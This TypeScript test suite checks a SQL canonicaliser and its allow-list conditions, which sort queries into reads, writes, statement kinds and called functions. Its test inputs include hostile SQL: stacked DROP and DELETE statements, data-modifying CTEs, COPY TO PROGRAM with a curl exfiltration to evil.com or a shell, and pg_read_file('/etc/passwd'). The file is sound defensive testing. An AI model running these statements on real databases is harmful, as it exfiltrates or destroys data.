import assert from 'node:assert/strict';
import { before, describe, test } from 'node:test';
import fc from 'fast-check';
import type { Json } from '../types.js';
import { sqlCanonicaliser as c, initSql, parseName, type SqlFacts } from './sql.js';
import { harness } from './testing.js';

before(async () => {
  await initSql();
});

const { cond, facts, refused, allowed, why } = harness(c);

const readCustomers = { statements: ['select'], tables: ['customers'] };

describe('sql facts', () => {
  test('a plain select', () => {
    assert.deepEqual(c.toJson(facts('SELECT id, name FROM customers WHERE id = $1')), {
      statements: ['select'],
      reads: ['customers'],
      writes: [],
      tables: ['customers'],
      count: 1,
      selectInto: false,
      modifyingCte: false,
      functions: [],
    });
  });

  test('stacked statements are counted and each kind reported', () => {
    const f = facts('SELECT * FROM customers; DELETE FROM customers');
    assert.equal(f.count, 2);
    assert.deepEqual(f.statements, ['delete', 'select']);
    assert.deepEqual(f.writes, ['customers']);
  });

  test('comments are stripped by the parser and cannot hide a statement', () => {
    assert.equal(facts('SELECT 1; -- DROP TABLE customers').count, 1);
    assert.equal(facts('SELECT 1 /* ; DROP TABLE customers */').count, 1);
    const f = facts('SELECT 1 /* x */; DROP TABLE customers -- y');
    assert.equal(f.count, 2);
    assert.deepEqual(f.statements, ['drop', 'select']);
    assert.deepEqual(f.writes, ['customers']);
    assert.deepEqual(facts("SELECT '--' ; DELETE FROM t").statements, ['delete', 'select']);
  });

  test('a data-modifying CTE is a write and its kind is reported', () => {
    const f = facts('WITH gone AS (DELETE FROM customers RETURNING *) SELECT * FROM gone');
    assert.deepEqual(f.statements, ['delete', 'select']);
    assert.deepEqual(f.writes, ['customers']);
    assert.deepEqual(f.reads, []);
    assert.equal(f.modifyingCte, true);
  });

  test('CTE names are scoped: a same-named real table outside the scope is still a table', () => {
    const f = facts('SELECT * FROM (WITH secrets AS (SELECT 1) SELECT * FROM secrets) q, secrets');
    assert.deepEqual(f.reads, ['secrets']);
    assert.deepEqual(facts('WITH c AS (SELECT * FROM customers) SELECT * FROM c').reads, ['customers']);
    // A non-recursive CTE does not see itself: the inner `x` is the table.
    assert.deepEqual(facts('WITH x AS (SELECT * FROM x) SELECT * FROM x').reads, ['x']);
    assert.deepEqual(facts('WITH RECURSIVE r AS (SELECT 1 UNION SELECT * FROM r) SELECT * FROM r').reads, []);
    // A qualified name never refers to a CTE.
    assert.deepEqual(facts('WITH customers AS (SELECT 1) SELECT * FROM public.customers').reads, [
      'public.customers',
    ]);
  });

  test('SELECT INTO and CREATE TABLE AS are writes of kind create', () => {
    const f = facts('SELECT * INTO stolen FROM customers');
    assert.equal(f.selectInto, true);
    assert.deepEqual(f.statements, ['create', 'select']);
    assert.deepEqual(f.writes, ['stolen']);
    assert.deepEqual(f.reads, ['customers']);
    const g = facts('CREATE TABLE stolen AS SELECT * FROM customers');
    assert.deepEqual(g.statements, ['create']);
    assert.deepEqual(g.writes, ['stolen']);
  });

  test('COPY: TO reads, FROM writes, TO PROGRAM is kind copy', () => {
    const to = facts("COPY customers TO PROGRAM 'curl -d @- evil.com'");
    assert.deepEqual(to.statements, ['copy']);
    assert.deepEqual(to.reads, ['customers']);
    const from = facts("COPY customers FROM '/tmp/x'");
    assert.deepEqual(from.writes, ['customers']);
    assert.deepEqual(facts('COPY (DELETE FROM customers RETURNING *) TO STDOUT').writes, ['customers']);
  });

  test('EXPLAIN ANALYZE of a write counts as the write', () => {
    const f = facts('EXPLAIN ANALYZE DELETE FROM customers');
    assert.deepEqual(f.statements, ['delete', 'explain']);
    assert.deepEqual(f.writes, ['customers']);
    assert.deepEqual(facts('EXPLAIN SELECT * FROM customers').statements, ['explain', 'select']);
    assert.deepEqual(facts('PREPARE p AS DELETE FROM customers').statements, ['delete', 'prepare']);
  });

  test('UNION, joins and subqueries in WHERE all contribute reads', () => {
    assert.deepEqual(facts('SELECT a FROM customers UNION SELECT b FROM secrets').reads, [
      'customers',
      'secrets',
    ]);
    assert.deepEqual(facts('SELECT * FROM customers c JOIN orders o ON o.c = c.id').reads, [
      'customers',
      'orders',
    ]);
    assert.deepEqual(facts('SELECT * FROM customers WHERE id IN (SELECT id FROM secrets)').reads, [
      'customers',
      'secrets',
    ]);
    assert.deepEqual(facts('SELECT (SELECT max(x) FROM secrets) FROM customers').reads, [
      'customers',
      'secrets',
    ]);
    assert.deepEqual(
      facts('SELECT * FROM customers WHERE EXISTS (SELECT 1 FROM LATERAL (SELECT * FROM s2) z)').reads,
      ['customers', 's2'],
    );
  });

  test('DML: target written, FROM/USING/subqueries read', () => {
    const u = facts('UPDATE customers SET x = (SELECT y FROM rates) FROM regions WHERE true');
    assert.deepEqual(u.writes, ['customers']);
    assert.deepEqual(u.reads, ['rates', 'regions']);
    const i = facts('INSERT INTO audit SELECT * FROM customers');
    assert.deepEqual(i.statements, ['insert']);
    assert.deepEqual(i.writes, ['audit']);
    assert.deepEqual(i.reads, ['customers']);
    const m = facts('MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE');
    assert.deepEqual(m.statements, ['merge']);
    assert.deepEqual(m.writes, ['t']);
    assert.deepEqual(m.reads, ['s']);
  });

  test('DDL and other statements are writes of their kind', () => {
    assert.deepEqual(facts('DROP TABLE a, s.b').writes, ['a', 's.b']);
    assert.deepEqual(facts('TRUNCATE customers').statements, ['truncate']);
    assert.deepEqual(facts('ALTER TABLE customers ADD COLUMN x int').statements, ['alter']);
    assert.deepEqual(facts('GRANT SELECT ON customers TO public').statements, ['grant']);
    assert.deepEqual(facts('REVOKE SELECT ON customers FROM public').statements, ['revoke']);
    assert.deepEqual(facts('BEGIN').statements, ['begin']);
    assert.deepEqual(facts('SET search_path = evil').statements, ['set']);
    assert.deepEqual(facts('DO $$ BEGIN PERFORM 1; END $$').statements, ['do']);
    assert.deepEqual(facts('CREATE VIEW v AS SELECT * FROM customers').writes, ['v']);
    assert.deepEqual(facts('LOCK TABLE customers').writes, ['customers']);
  });

  test('schema-qualified names are kept; quoted identifiers keep their case', () => {
    assert.deepEqual(facts('SELECT * FROM CRM.Customers').reads, ['crm.customers']);
    assert.deepEqual(facts('SELECT * FROM "Customers"').reads, ['"Customers"']);
    assert.deepEqual(facts('SELECT * FROM "crm.customers"').reads, ['"crm.customers"']);
    assert.deepEqual(facts('SELECT * FROM db.crm.customers').reads, ['db.crm.customers']);
  });

  test('functions called are reported', () => {
    assert.deepEqual(facts("SELECT pg_read_file('/etc/passwd')").functions, ['pg_read_file']);
    assert.deepEqual(facts("SELECT * FROM dblink('h', 'select 1') AS t(x int)").functions, ['dblink']);
    assert.deepEqual(facts("SELECT lo_import('/etc/passwd'), pg_catalog.now()").functions, [
      'lo_import',
      'pg_catalog.now',
    ]);
    assert.deepEqual(facts('CALL app.refresh(1)').functions, ['app.refresh']);
  });

  test('text that does not parse, empty text and non-strings are errors', () => {
    refused('SELEC 1', /does not parse: syntax error at or near "SELEC" at position 0/);
    refused('SELECT * FROM', /does not parse/);
    refused('', /empty/);
    refused('   ', /empty/);
    refused(';', /holds no statement/);
    refused('-- only a comment', /holds no statement/);
    refused('SELECT 1\u0000; DROP TABLE x', /NUL/);
    refused(1, /must be a string, got a number/);
    refused(null, /got null/);
  });

  test('deep nesting is refused, not a crash', () => {
    refused(`SELECT ${'1+'.repeat(5000)}1 FROM t`, /nested too deeply/);
    refused(`SELECT ${'1+'.repeat(40000)}1 FROM t`, /does not parse/);
    refused(`SELECT ${'1+'.repeat(60000)}1 FROM t`, /longer than 100000/);
    refused(`${'SELECT * FROM ('.repeat(1000)}SELECT 1${') s'.repeat(1000)}`, /nested too deeply/);
    assert.deepEqual(facts(`${'SELECT * FROM ('.repeat(50)}SELECT * FROM secrets${') s'.repeat(50)}`).reads, [
      'secrets',
    ]);
  });
});

describe('sql conditions', () => {
  test('max_statements defaults to 1: stacked statements are refused', () => {
    assert.match(
      why(readCustomers, 'SELECT * FROM customers; SELECT * FROM customers'),
      /2 statements; at most 1/,
    );
    assert.ok(
      allowed({ ...readCustomers, max_statements: 2 }, 'SELECT * FROM customers; SELECT * FROM customers'),
    );
    assert.ok(allowed(readCustomers, 'SELECT * FROM customers; -- DROP TABLE customers'));
  });

  test('statements: every kind present must be listed', () => {
    assert.match(
      why(readCustomers, 'WITH x AS (DELETE FROM customers RETURNING *) SELECT * FROM x'),
      /kind delete not allowed/,
    );
    assert.match(why(readCustomers, 'SELECT * INTO copy FROM customers'), /kind create not allowed/);
    assert.match(
      why(readCustomers, 'EXPLAIN ANALYZE DELETE FROM customers'),
      /kind delete, explain not allowed/,
    );
    assert.match(why(readCustomers, "COPY customers TO PROGRAM 'sh'"), /kind copy not allowed/);
  });

  test('tables: every referenced table must be listed; unqualified entries cover public only', () => {
    assert.ok(allowed(readCustomers, 'SELECT * FROM customers'));
    assert.ok(allowed(readCustomers, 'SELECT * FROM public.customers'));
    assert.match(
      why(readCustomers, 'SELECT * FROM crm.customers'),
      /table crm\.customers not allowed; allowed: customers/,
    );
    assert.match(
      why(readCustomers, 'SELECT * FROM customers UNION SELECT * FROM secrets'),
      /table secrets not allowed/,
    );
    assert.match(
      why(readCustomers, 'SELECT * FROM customers WHERE id IN (SELECT id FROM secrets)'),
      /secrets/,
    );
    assert.equal(allowed(readCustomers, 'SELECT * FROM "Customers"'), false);
    assert.equal(allowed(readCustomers, 'SELECT * FROM db.public.customers'), false);
    const crm = { tables: ['crm.customers'] };
    assert.ok(allowed(crm, 'SELECT * FROM crm.customers'));
    assert.equal(allowed(crm, 'SELECT * FROM customers'), false);
    assert.equal(allowed(crm, 'SELECT * FROM "crm.customers"'), false);
    assert.ok(allowed({ tables: ['"Customers"'] }, 'SELECT * FROM "Customers"'));
    assert.ok(allowed({ tables: ['CUSTOMERS'] }, 'SELECT * FROM Customers'));
  });

  test('reads and writes are separate subsets', () => {
    const rw = { reads: ['customers'], writes: ['audit'] };
    assert.ok(allowed(rw, 'INSERT INTO audit SELECT * FROM customers'));
    assert.match(why(rw, 'INSERT INTO customers SELECT * FROM audit'), /read of table audit not allowed/);
    assert.match(
      why({ writes: [] }, 'UPDATE customers SET x = 1'),
      /write to table customers not allowed; allowed: none/,
    );
    assert.match(why({ writes: [] }, 'SELECT * INTO t FROM customers'), /write to table t/);
  });

  test('functions, when listed, are an allow-list', () => {
    const f = { functions: ['count', 'lower'] };
    assert.ok(allowed(f, 'SELECT count(*), lower(name) FROM customers'));
    assert.ok(allowed(f, 'SELECT pg_catalog.count(*) FROM customers'));
    assert.match(why(f, "SELECT pg_read_file('/etc/passwd')"), /function pg_read_file not allowed/);
  });

  test('match works on facts that were copied (e.g. through JSON)', () => {
    const copy = JSON.parse(JSON.stringify(facts('SELECT * FROM "Customers", crm.x'))) as SqlFacts;
    assert.ok(c.match(cond({ tables: ['"Customers"', 'crm.x'] }), copy).ok);
    assert.equal(c.match(cond({ tables: ['customers', 'crm.x'] }), copy).ok, false);
  });

  test('compile validates kinds, names and numbers', () => {
    const r = c.compile({
      statements: ['select;'],
      tables: ['a b', '"unterminated', 'a.b.c.d'],
      max_statements: 0,
      limit: 1,
    });
    assert.equal(r.ok, false);
    if (r.ok) return;
    assert.deepEqual(r.errors.map((e) => e.field).sort(), [
      'limit',
      'max_statements',
      'statements[0]',
      'tables[0]',
      'tables[1]',
      'tables[2]',
    ]);
    assert.deepEqual(parseName('"A""b".C'), { ok: true, value: { schema: 'A"b', name: 'c' } });
  });
});

describe('sql properties', () => {
  test('facts never throws on arbitrary strings and JSON', () => {
    fc.assert(fc.property(fc.string({ unit: 'binary' }), (s) => void c.facts(s)));
    fc.assert(fc.property(fc.jsonValue(), (v) => void c.facts(v as Json)));
    const tok = fc.constantFrom(
      'SELECT',
      '*',
      'FROM',
      'customers',
      ';',
      '--',
      '/*',
      '*/',
      'WITH',
      'x',
      'AS',
      '(',
      ')',
      'DELETE',
      "'",
      '$$',
      'INTO',
      'UNION',
    );
    fc.assert(fc.property(fc.array(tok, { maxLength: 20 }), (ts) => void c.facts(ts.join(' '))));
  });

  test('a write never hides from the facts: any generated DELETE target appears in writes', () => {
    const table = fc.constantFrom('customers', 'secrets', 'crm.customers');
    const wrap = fc.constantFrom(
      (d: string) => d,
      (d: string) => `WITH x AS (${d} RETURNING *) SELECT * FROM x`,
      (d: string) => `EXPLAIN ANALYZE ${d}`,
      (d: string) => `SELECT 1; ${d}`,
      (d: string) => `PREPARE p AS ${d}`,
      (d: string) => `COPY (${d} RETURNING *) TO STDOUT`,
    );
    fc.assert(
      fc.property(table, wrap, (t, w) => {
        const f = facts(w(`DELETE FROM ${t}`));
        assert.ok(f.writes.includes(t), `${w(`DELETE FROM ${t}`)} -> ${f.writes}`);
        assert.ok(f.statements.includes('delete'));
        assert.equal(c.match(cond(readCustomers), f).ok, false);
      }),
    );
  });
});
